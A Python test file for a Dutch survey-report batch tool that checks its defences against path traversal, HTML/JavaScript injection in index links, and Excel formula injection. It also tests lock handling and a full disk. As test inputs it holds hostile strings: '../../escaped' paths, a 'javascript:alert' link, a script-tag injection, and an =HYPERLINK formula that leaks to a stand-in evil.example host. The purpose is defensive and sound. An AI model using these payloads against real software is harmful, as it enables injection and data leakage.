"""Hostile input at the batch: output paths, index links, Excel formulas, the folder lock, two
batches into one folder, --workers and --orgs checked before anything is computed, a full disk."""

from __future__ import annotations

import errno
import io
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from ikto_lib.batch.excel import workbook_bytes, write_workbook
from ikto_lib.batch.index import RowStatus, index_html
from ikto_lib.batch.lock import LOCK_NAME
from ikto_lib.safe import UnsafePath, output_path
from tests.batch.conftest import fake_prepare

HOSTILE_TEXT = ['=HYPERLINK("http://evil.example/?leak","Klik hier")', "=1+2", "+31 6 1234",
                "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "-"]


# -- output paths -------------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["../../escaped", "/tmp/ikto-abs", "a/b", "..", ".", "", "index",
                                  "x" * 65])
def test_output_path_refuses_names_that_escape_or_collide(tmp_path, name):
    with pytest.raises(UnsafePath):
        output_path(tmp_path / "out", name, ".html")


def test_output_path_builds_paths_inside_the_folder(tmp_path):
    assert output_path(tmp_path, "GEM-AMS", ".xlsx") == (tmp_path / "GEM-AMS.xlsx").resolve()
    assert output_path(tmp_path, "group", ".html", allow=("group",)).name == "group.html"
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "link").symlink_to(tmp_path)  # a symlinked name resolving elsewhere
    with pytest.raises(UnsafePath):
        output_path(tmp_path / "out", "link", "")


def test_skipped_org_clean_up_never_deletes_outside_the_folder(tmp_path):
    from ikto_lib.batch.manifest import Manifest
    from ikto_lib.batch.run import _remove_outputs

    victim = tmp_path / "escaped.html"
    victim.write_text("not ours")
    out = tmp_path / "out" / "2015"
    out.mkdir(parents=True)
    with pytest.raises(UnsafePath):
        _remove_outputs(out, "../../escaped", Manifest({}))
    assert victim.read_text() == "not ours"


def test_hostile_code_in_prepared_tables_writes_and_deletes_nothing_outside(stub_batch, tmp_path,
                                                                           monkeypatch):
    """Defence in depth: prepared tables from elsewhere (never validated) with codes that would
    escape the folder: those organisations fail, nothing is written or removed outside."""
    import ikto_lib.batch.run as run

    victims = {code: tmp_path / f"{Path(code).name}.html" for code in
               ("../../escaped", "../../../gone")}
    for path in victims.values():
        path.write_text("not ours")

    def hostile_prepare(wave, prev, settings, prepared_dir, *, force):
        folder, reused = fake_prepare(wave, prev, settings, prepared_dir, force=force)
        orgs = pd.read_parquet(folder / "organisations.parquet")
        orgs["org"] = orgs["org"].replace({"MINFIN": "../../escaped", "GEMXS": "../../../gone"})
        orgs.to_parquet(folder / "organisations.parquet", index=False)
        return folder, reused

    monkeypatch.setattr(run, "_prepare", hostile_prepare)
    result = stub_batch.run(in_process=True)
    assert result.exit_code == 1
    assert result.statuses["../../escaped"].status == "failed"
    assert "unsafe organisation code" in result.statuses["../../escaped"].reason
    assert all(p.read_text() == "not ours" for p in victims.values())
    assert not list(tmp_path.glob("*.xlsx"))
    assert result.statuses["MINBZK"].status == "ok"


# -- index links ----------------------------------------------------------------------------------

def test_index_links_are_url_encoded_and_escaped():
    codes = ["javascript:alert(document.domain)", '"><script>x()</script>', "a b/../c?d#e",
             "GEM-AMS"]
    figures = pd.DataFrame({"org": codes, "name": codes, "type": "gemeente", "respondents": 50,
                            "response_rate": 0.5, "grade": 7.0, "top2": 0.6})
    page = index_html(figures, {c: RowStatus("ok") for c in codes}, wave="2015", language="nl",
                      min_n=10)
    from bs4 import BeautifulSoup

    hrefs = [a["href"] for a in BeautifulSoup(page, "html.parser").find_all("a")]
    assert "javascript%3Aalert%28document.domain%29.html" in hrefs
    assert "GEM-AMS.html" in hrefs and "GEM-AMS.xlsx" in hrefs
    assert all(":" not in h and "/" not in h and "?" not in h and "#" not in h for h in hrefs)
    assert "<script>x()" not in page and page.count("<script") == 1  # only the page's own sorting script


# -- Excel --------------------------------------------------------------------------------------

def formula_cells(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in wb for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_text_that_excel_reads_as_a_formula_is_a_plain_string_cell():
    tables = {"Voorblad": pd.DataFrame({"sleutel": ["name"] * len(HOSTILE_TEXT),
                                        "waarde": HOSTILE_TEXT}),
              "Eenheden": pd.DataFrame({"=1+2": [0.5], "eenheid": ["=1+2"], "n": [-3]})}
    data = workbook_bytes(tables)
    assert formula_cells(data) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    cells = [wb["Voorblad"].cell(row=i + 2, column=2) for i in range(len(HOSTILE_TEXT))]
    # the text itself is kept (an XML reader reads a lone CR as a line feed)
    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE_TEXT]
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    head, unit, n = wb["Eenheden"]["A1"], wb["Eenheden"]["B2"], wb["Eenheden"]["C2"]
    assert (head.value, head.data_type, head.quotePrefix) == ("=1+2", "s", True)
    assert (unit.value, unit.data_type, unit.quotePrefix) == ("=1+2", "s", True)
    assert (n.value, n.data_type) == (-3, "n")  # numbers stay numbers


def test_report_workbook_of_a_hostile_wave_has_no_formula(tmp_path):
    """The real report tables of a wave whose org name (cover, summary) and pluim targets are
    formulas."""
    from ikto_lib.cli import main
    from ikto_lib.report.excel import excel_tables
    from tests.smallwave import read_table, write_small_wave, write_table

    wave = write_small_wave(tmp_path / "2015")
    orgs = read_table(wave, "organisations")
    orgs.loc[orgs["org"] == "MINBZK", "name"] = HOSTILE_TEXT[0]
    write_table(wave, "organisations", orgs)
    resp = read_table(wave, "responses")
    resp.loc[resp["pluim_target"] != "", "pluim_target"] = "=1+2"
    write_table(wave, "responses", resp)
    assert main(["prepare", str(wave), "--out", str(tmp_path / "out")]) == 0
    tables = excel_tables(tmp_path / "out" / "2015" / "prepared", "MINBZK", language="nl")
    path = tmp_path / "MINBZK.xlsx"
    write_workbook(tables, path)
    data = path.read_bytes()
    assert formula_cells(data) == []
    wb = openpyxl.load_workbook(io.BytesIO(data))
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row}
    assert HOSTILE_TEXT[0] in texts  # Voorblad: the name, as text


# -- options checked before anything is computed ---------------------------------------------------

def test_unknown_orgs_refused_before_prepare(stub_batch, monkeypatch, capsys):
    import ikto_lib.batch.run as run

    called = []
    monkeypatch.setattr(run, "_prepare", lambda *a, **k: called.append(1))
    result = stub_batch.run(orgs=["MINBZK", "NOPE"], in_process=True)
    assert result.exit_code == 2 and called == []
    assert "unknown organisation(s): NOPE" in capsys.readouterr().err
    assert not stub_batch.out.exists()


@pytest.mark.parametrize("workers", [0, -1])
def test_workers_below_one_refused(stub_batch, workers):
    result = stub_batch.run(workers=workers)
    assert result.exit_code == 2 and "--workers" in result.message
    assert not stub_batch.out.exists()


def test_disk_full_in_batch_is_exit_2_and_nothing_half_written(stub_batch, monkeypatch):
    import ikto_lib.prepared as prepared

    real, calls = os.fsync, []

    def fsync(fd):
        calls.append(fd)
        if len(calls) == 4:
            raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real(fd)

    monkeypatch.setattr(prepared.os, "fsync", fsync)
    result = stub_batch.run(in_process=True)
    assert result.exit_code == 2 and "No space left on device" in result.message
    assert not list(stub_batch.out.rglob("*.part"))
    assert not (stub_batch.folder / "prepared" / "manifest.json").exists()
    assert not (stub_batch.folder / LOCK_NAME).exists()


# -- the lock and two batches into one folder ------------------------------------------------------

def write_lock(folder: Path, pid: int, host: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / LOCK_NAME
    path.write_text(json.dumps({"pid": pid, "host": host or socket.gethostname(),
                                "time": "2015-06-01T12:00:00"}))
    return path


def test_second_batch_on_a_locked_folder_is_refused(stub_batch, capsys):
    running = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    try:
        lock = write_lock(stub_batch.folder, running.pid)
        result = stub_batch.run(in_process=True)
        assert result.exit_code == 2
        err = capsys.readouterr().err
        assert "another batch is writing" in err and f"pid {running.pid}" in err
        assert lock.exists() and not (stub_batch.folder / "index.html").exists()
        other = write_lock(stub_batch.folder, 1, host="elsewhere.example")  # cannot be checked
        assert stub_batch.run(in_process=True).exit_code == 2 and other.exists()
    finally:
        running.kill()
        running.wait()


def test_stale_lock_of_a_dead_batch_is_taken_over_with_a_notice(stub_batch, capsys):
    gone = subprocess.Popen([sys.executable, "-c", "pass"])
    gone.wait()
    write_lock(stub_batch.folder, gone.pid)
    result = stub_batch.run(in_process=True)
    assert result.exit_code == 0
    assert "took over the stale lock" in capsys.readouterr().err
    assert "took over the stale lock" in result.log_file.read_text()
    assert not (stub_batch.folder / LOCK_NAME).exists()  # released at the end


def test_lock_is_held_while_the_batch_runs(stub_batch, monkeypatch):
    import ikto_lib.batch.run as run

    seen = []

    def prepare(*args, **kw):
        lock = json.loads((stub_batch.folder / LOCK_NAME).read_text())
        seen.append((lock["pid"], lock["host"]))
        return fake_prepare(*args, **kw)

    monkeypatch.setattr(run, "_prepare", prepare)
    assert stub_batch.run(in_process=True, orgs=["MINBZK"]).exit_code == 0
    assert seen == [(os.getpid(), socket.gethostname())]
    assert not (stub_batch.folder / LOCK_NAME).exists()


def test_two_sequential_batches_into_one_folder_both_in_manifest_and_index(stub_batch):
    from bs4 import BeautifulSoup

    assert stub_batch.run(orgs=["MINBZK"], in_process=True).exit_code == 0
    second = stub_batch.run(orgs=["WSHDN"], in_process=True, language="en")
    assert second.exit_code == 0
    reports = json.loads((stub_batch.folder / "manifest.json").read_text())["reports"]
    assert {"MINBZK", "WSHDN", "group"} <= set(reports)
    soup = BeautifulSoup((stub_batch.folder / "index.html").read_text(), "html.parser")
    row = {tr["data-org"]: tr for tr in soup.find_all("tr", attrs={"data-org": True})}
    assert row["MINBZK"].find("a", href="MINBZK.html") is not None
    assert row["MINBZK"].find(attrs={"data-status": True})["data-status"] == "earlier"
    assert row["WSHDN"].find("a", href="WSHDN.html") is not None
    assert row["MINFIN"].find(attrs={"data-status": True})["data-status"] == "not_run"


def test_manifest_save_merges_with_entries_written_since_it_was_loaded(tmp_path):
    from ikto_lib.batch.manifest import Manifest

    path = tmp_path / "manifest.json"
    a, b = Manifest.load(path), Manifest.load(path)  # two runs that loaded the same (empty) file
    a.record("MINBZK", "fa", ["MINBZK.html"])
    b.record("WSHDN", "fb", ["WSHDN.html"])
    b.forget("GEMXS")
    a.forget("MINBZK")
    a.record("PRVUT", "fp", ["PRVUT.html"])
    assert set(json.loads(path.read_text())["reports"]) == {"WSHDN", "PRVUT"}
